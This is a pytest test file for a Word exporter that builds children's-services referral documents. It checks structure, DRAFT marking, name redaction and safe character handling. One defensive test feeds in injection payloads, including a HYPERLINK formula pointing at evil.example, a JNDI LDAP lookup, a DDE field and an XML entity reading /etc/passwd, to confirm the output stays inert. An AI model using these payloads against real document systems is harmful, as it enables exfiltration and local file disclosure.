"""The Word file opens, reads in order, says DRAFT, names nobody else, and is inert."""

from __future__ import annotations

import io
import re
import zipfile

import docx
import pytest
from docx.document import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.domain.draft import current_hash
from assistant.domain.events import Interview
from assistant.domain.findings import ResolutionKind
from assistant.domain.text import Section
from assistant.export.word_export import WordExporter
from assistant.export.word_parts import clean
from tests.builders import AT, Story, bus_story

OTHERS = ("Florence", "Cody", "Wes", "Lund")
HEADINGS = ["1. Background", "2. Interventions", "3. Request", "4. Outcomes"]


def _export(interview: Interview) -> bytes:
    return WordExporter().export(interview, now=AT).content


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _open(content: bytes) -> Document:
    return docx.Document(io.BytesIO(content))


def _texts(document: Document) -> list[str]:
    """Every text of the body in reading order, tables included."""
    texts: list[str] = []
    for block in document.iter_inner_content():
        if hasattr(block, "rows"):
            texts += [cell.text for row in block.rows for cell in row.cells]
        else:
            texts.append(block.text)
    return texts


def _approved() -> Interview:
    story = bus_story()
    content_hash = current_hash(story.interview())
    story.submit(content_hash)
    story.approve(content_hash)
    return story.interview()


def test_the_four_headings_are_real_headings_in_order() -> None:
    document = _open(_export(bus_story().interview()))
    headings = [
        paragraph.text
        for paragraph in document.paragraphs
        if paragraph.style is not None and paragraph.style.name == "Heading 1"
    ]

    assert [text for text in headings if text in HEADINGS] == HEADINGS
    assert headings[0] == "Child and family"
    assert document.core_properties.title == "Referral to children’s services"
    assert document.core_properties.language == "en-GB"
    assert document.core_properties.author == ""


def test_facts_stand_in_date_order_under_their_headings() -> None:
    text = "\n".join(_texts(_open(_export(bus_story().interview()))))
    order = [
        "1. Background",
        "he wrote a rude word",
        "he pulled a Y2 boys trousers down",
        "Riley had put his hand on her leg",
        "2. Interventions",
        "made him scrub it off",
        "PANTS work with me",
        "3. Request",
        "An assessment of what the boys are seeing",
        "4. Outcomes",
        "lose all his friends",
    ]

    places = [text.index(words) for words in order]
    assert places == sorted(places)


def test_header_rows_repeat_and_rows_stay_whole() -> None:
    xml = _parts(_export(bus_story().interview()))["word/document.xml"].decode()

    assert xml.count("<w:tblHeader/>") == 4
    assert xml.count("<w:cantSplit/>") == xml.count("<w:tr>")


def test_pages_are_a4_and_black_on_white() -> None:
    content = _export(bus_story().interview())
    section = _open(content).sections[0]

    assert section.page_width is not None
    assert section.page_height is not None
    assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == (21.0, 29.7)
    colours = set(
        re.findall(r'<w:color w:val="(\w+)"', _parts(content)["word/document.xml"].decode())
    )
    assert colours <= {"000000", "auto"}


def test_a_draft_says_so_on_every_page_and_in_its_name() -> None:
    file = WordExporter().export(bus_story().interview(), now=AT)
    document = _open(file.content)

    assert file.name == "referral-5f0c2c1e-v0-DRAFT.docx"
    assert "DRAFT – not approved" in document.sections[0].header.paragraphs[0].text
    assert document.tables[0].cell(0, 0).text.startswith("DRAFT – not approved")
    assert "Draft. Fingerprint" in document.sections[0].footer.paragraphs[0].text


def test_an_approved_file_names_reviewer_version_and_fingerprint() -> None:
    file = WordExporter(
        local_authority="Northmoor Council", name_of=lambda _: "Helen Marsh"
    ).export(_approved(), now=AT)
    document = _open(file.content)
    text = "\n".join(_texts(document))

    assert file.name == "referral-5f0c2c1e-v1.docx"
    assert "DRAFT" not in text + document.sections[0].header.paragraphs[0].text
    assert "To Northmoor Council." in text
    assert "Approved by Helen Marsh, who did not write it, on 14 March 2024, 09:30" in text
    assert "version 1. Approved. Fingerprint" in document.sections[0].footer.paragraphs[0].text


def test_names_of_others_are_in_no_part_of_the_file() -> None:
    for name, part in _parts(_export(bus_story().interview())).items():
        for other in OTHERS:
            assert other.encode() not in part, (name, other)


def test_held_words_are_in_the_appendix_of_a_draft_only() -> None:
    words = "Hes turning into a right little creep"
    draft = "\n".join(_texts(_open(_export(bus_story().interview()))))

    assert draft.index(words) > draft.index("Appendix: checks and sources")
    assert words not in "\n".join(_texts(_open(_export(_approved()))))


def test_kept_words_come_back_into_background() -> None:
    story = bus_story()
    finding = next(
        item for item in story.interview().open_findings if "probably taught" in item.words
    )
    story.decide(finding, ResolutionKind.KEEP, "Riley said so")

    text = "\n".join(_texts(_open(_export(story.interview()))))

    kept = text.index("his brother [family member B] probably taught him it")
    assert text.index("1. Background") < kept < text.index("2. Interventions")


def test_nothing_of_the_file_reaches_outside_or_computes_from_content() -> None:
    story = Story()
    text = (
        '=HYPERLINK("http://evil.example","x") {{7*7}} ${jndi:ldap://x} { INCLUDETEXT "c:\\x" } '
        "<w:fldSimple w:instr='DDE'/> <!ENTITY x SYSTEM 'file:///etc/passwd'> &amp; http://x.example"
    )
    story.heard(text)
    story.incident(text)
    parts = _parts(_export(story.interview()))
    document = parts["word/document.xml"].decode()

    assert "fldSimple w:instr" not in document.replace("&lt;w:fldSimple w:instr", "")
    assert "instrText" not in document
    assert "w:hyperlink" not in document
    for name, part in parts.items():
        if name.endswith(".rels"):
            assert b'TargetMode="External"' not in part, name
        assert "vba" not in name.lower()
    assert text in _texts(_open(_export(story.interview())))


def test_many_checks_alike_are_told_once() -> None:
    story = Story()
    for number in range(6):
        story.heard(f"He ran off by door {number}")
        story.incident(f"He ran off by door {number}")

    texts = _texts(_open(_export(story.interview())))

    assert "“He ran off by door 0” has no date. And 5 more like it." in texts
    assert "“He ran off by door 1” has no date." not in texts


def test_an_empty_interview_gives_a_file_that_says_so() -> None:
    text = "\n".join(_texts(_open(_export(Story().interview()))))

    for heading in HEADINGS:
        assert heading in text
    assert "Nothing is recorded in Background." in text


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("a\x00b", "a\ufffdb"),
        ("a\x0bb", "a\ufffdb"),
        ("a\ufffeb\uffff", "a\ufffdb\ufffd"),
        ("a\ud800b", "a\ufffdb"),
        ("a\x1bb\x7f", "a\ufffdb\x7f"),
        ("tab\tline\nend", "tab\tline\nend"),
        ("😀 مرحبا 𝔸 \u202e", "😀 مرحبا 𝔸 \u202e"),
    ],
)
def test_what_xml_cannot_hold_is_replaced_visibly(raw: str, shown: str) -> None:
    assert clean(raw) == shown


_PIECES = st.lists(
    st.one_of(
        st.text(max_size=30),
        st.sampled_from(
            ["=1+1", "+cmd", "-2", "@SUM", "{{x}}", "<b>", "]]>", "&lt;", "<?xml?>", "\x00", "\x0b"]
        ),
    ),
    min_size=1,
    max_size=4,
)


@settings(max_examples=25, deadline=None)
@given(_PIECES)
def test_any_text_is_whole_and_inert_in_word(pieces: list[str]) -> None:
    """Messages hold anything but lone surrogates; what XML can't hold shows as U+FFFD."""
    text = "".join(pieces).encode("utf-8", "replace").decode()
    if not text.strip():
        return
    story = Story()
    story.heard(text, Section.BACKGROUND)
    story.incident(text)
    story.heard(text, Section.REQUEST)
    story.request(text)
    story.answer("household", text)

    content = _export(story.interview())

    texts = _texts(_open(content))
    assert clean(text) in [found.replace("\r", "\n") for found in texts]
    document = _parts(content)["word/document.xml"].decode()
    assert "instrText" not in document
    assert "fldSimple" not in document.replace("&lt;", "")
